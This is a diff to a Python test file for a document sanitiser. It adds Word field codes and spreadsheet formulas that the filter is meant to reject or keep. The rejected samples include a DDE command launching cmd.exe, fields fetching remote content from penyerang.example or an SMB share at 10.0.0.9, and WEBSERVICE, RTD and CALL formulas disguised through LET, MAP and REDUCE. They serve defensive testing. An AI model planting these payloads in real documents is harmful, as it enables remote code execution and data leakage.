@@ -46,11 +46,13 @@ BURUK = [
     r' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" ', "dde excel a b", r'INCLUDEPICTURE "http://penyerang.example/a.png" \d',
     r'INCLUDETEXT "\\\\10.0.0.9\\bagi\\a.docx"', r'IMPORT "\\10.0.0.9\bagi\a.png"', r"INCLUDEPICTURE //10.0.0.9/a.png",
     'LINK htmlfile "mhtml:http://penyerang.example/a.hta"', r'LINK Word.Document.8 "file://10.0.0.9/a.docx"', r'DATABASE \c "DSN=a"',
+    'RD "http://penyerang.example/a.docx"', r'RD "\\\\10.0.0.9\\a.docx" \f',
 ]  # fmt: skip
 BAIK = [
     "PAGE", r'TOC \o "1-3" \h \z \u', 'HYPERLINK "https://sibolgakota.go.id/link"', "MERGEFIELD Nama", r'DATE \@ "d MMMM yyyy"',
     "REF _Ref1 ", "=1+2", 'IF "a" = "b" "DDE" "IMPORT http://a"', r'INCLUDEPICTURE "C:\\Foto\\kop.png" \* MERGEFORMAT',
     r'LINK Excel.Sheet.12 "C:\\Data\\Rekap.xlsx" "Sheet1!R1C1" \a \f 5', r'INCLUDEPICTURE "file:///C:\\kop.png"',
+    r'RD "Bab 2.docx" \f',
 ]  # fmt: skip
 
 
@@ -98,6 +100,8 @@ def test_the_name_of_a_field_is_not_put_together_by_others() -> None:
         '_xlfn.IMAGE("https://penyerang.example/a.png")', 'SUM(1)+CALL("a","b","c")',
         """T['[]&amp;WEBSERVICE("http://penyerang.example")&amp;T['[]""", "T['[]&amp;cmd|x!A1&amp;T['[]", """'a"b'!A1&amp;RTD(1)&amp;'a"b'!A1""",
         """T[a"b]&amp;RTD(1)&amp;T[a"b]""", "'a'&amp;RTD(1)&amp;'b'", "'RTD(1)'!A1",
+        "_xlfn.MAP(B1:B3,_xleta.WEBSERVICE)", '_xlfn.LET(f,WEBSERVICE,f("http://penyerang.example"))', "LET(f, webservice ;f(A1))",
+        "REDUCE('A b'!A1,T[a],_xlfn.IMAGE)", "MAP(T['[],RTD)", "_xleta.CALL", "MAP(A1,_xleta.REGISTER.ID)", "MAP(A1,_xleta.&#82;TD)",
     ],
 )  # fmt: skip
 def test_a_formula_that_asks_a_program_or_another_place_is_refused(isi: str) -> None:
@@ -110,6 +114,8 @@ def test_a_formula_that_asks_a_program_or_another_place_is_refused(isi: str) -> 
     [
         "SUM(A1:A9)", 'HYPERLINK("https://sibolgakota.go.id","a|b")', "'A|B'!A1", '"RTD("&amp;A1', "FILTERXML(A1,B1)", "Tabel[a|b]",
         "[1]Rekap!A1", "'Jum''at'!A1&amp;\"RTD(\"", "\"Jum'at\"&amp;\"RTD(\"", "CEILING(A1,1)&amp;&#34;x&#34;", "MYRTD(1)",
+        "Image!A1", "'Call Center'!A1+1", "Tabel[Image]", "SUM(Call_1,Foto.Image,image2,Gambarimage)", 'IF(T[a]="Call",\'A b\'!A1,"RTD")',
+        "Rekap!Image", "'[1]Call'!A1", "T[[#This Row],[Image]]&amp;\"WEBSERVICE\"",
     ],
 )  # fmt: skip
 def test_plain_formulas_are_kept(isi: str) -> None:
